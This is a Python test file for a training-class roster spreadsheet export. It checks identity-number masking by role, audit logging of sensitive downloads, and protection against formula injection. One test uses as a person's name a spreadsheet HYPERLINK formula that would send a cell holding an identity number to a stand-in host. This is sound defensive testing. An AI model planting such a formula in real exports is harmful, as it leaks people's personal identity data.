"""The class roster (附件4): full identity numbers only for those the policy lets see them, every
download recorded as a sensitive read naming the people, and no cell that runs as a formula."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from jxjy.audit.models import AuditAction, AuditEvent
from jxjy.core.testing import make_user
from jxjy.core.tests.test_formula_safe_exports import unsafe_cells
from jxjy.people.identity import make_identity_number, mask_identity_number
from jxjy.people.services.professionals import professional_create
from jxjy.people.tests.test_identity_disclosure import FULL, MASKED, candidate_numbers
from jxjy.training.services.enrolment import enrolment_self

from .conftest import Scene, approved_class, enrolled_class

pytestmark = pytest.mark.django_db


def _roster(client: Any, training_class: Any) -> list[tuple[Any, ...]]:
    response = client.get(f"/training/classes/{training_class.pk}/roster.xlsx")
    assert response.status_code == 200
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=4, values_only=True))


def _login(user: Any) -> Any:
    from django.test import Client

    client = Client()
    client.force_login(user)
    return client


def test_the_provider_gets_masked_numbers_and_cannot_rebuild_them(scene: Scene) -> None:
    training_class, users = enrolled_class(scene)
    people = [u.professional for u in users]
    client = _login(scene.provider)
    rows = [r for r in _roster(client, training_class) if r[0] and isinstance(r[0], int)]
    assert sorted(r[3] for r in rows) == sorted(mask_identity_number(p.id_number) for p in people)
    shown = client.get(f"/training/classes/{training_class.pk}/").content.decode() + "\n".join(
        str(v) for r in rows for v in r)
    assert not FULL.search(shown)
    for person in people:
        assert f"{person.birth_date:%Y-%m-%d}" not in shown and f"{person.birth_date:%Y%m%d}" not in shown
        masked = mask_identity_number(person.id_number)
        assert MASKED.fullmatch(masked)
        assert candidate_numbers(masked, sex=person.sex, birth_year=person.birth_date.year) > 10_000


def test_the_approving_bureaus_officer_gets_the_full_numbers_the_form_needs(scene: Scene) -> None:
    training_class, users = enrolled_class(scene)
    assert training_class.approving_bureau_id == scene.hr.hr_bureau_id
    rows = [r for r in _roster(_login(scene.hr), training_class) if isinstance(r[0], int)]
    assert sorted(r[3] for r in rows) == sorted(u.professional.id_number for u in users)


def test_every_roster_download_is_a_sensitive_read_naming_its_people(scene: Scene) -> None:
    training_class, users = enrolled_class(scene)
    ids = sorted(u.professional.pk for u in users)
    _roster(_login(scene.provider), training_class)
    _roster(_login(scene.hr), training_class)
    events = list(AuditEvent.objects.filter(action=AuditAction.READ_SENSITIVE, object_id=str(training_class.pk),
                                            object_type="training.trainingclass").order_by("id"))
    assert [e.actor for e in events] == [scene.provider, scene.hr]
    assert all(e.after["professional_ids"] == ids for e in events)
    assert [e.after["full_id_number_ids"] for e in events] == [[], ids]
    assert "含完整身份证号码" in events[1].message and f"{len(ids)}人" in events[1].message


def test_the_class_roster_carries_no_formula(scene: Scene) -> None:
    training_class = approved_class(scene)
    world = scene.world
    number = make_identity_number(world.gulou.code, dt.date(1980, 2, 2), 321, "M")
    person = professional_create(actor=world.users["hr_gulou"], name='=HYPERLINK("http://x/?d="&D4,"点击查看")',
                                 id_number=number, unit=world.gl_hospital, series="health")
    enrolment_self(actor=make_user("pro_hostile", "professional", professional=person, region=world.gulou),
                   training_class=training_class)
    response = _login(scene.provider).get(f"/training/classes/{training_class.pk}/roster.xlsx")
    assert unsafe_cells(response.content) == []
    names = [r[1] for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=4, values_only=True)]
    assert "'" + person.name in names
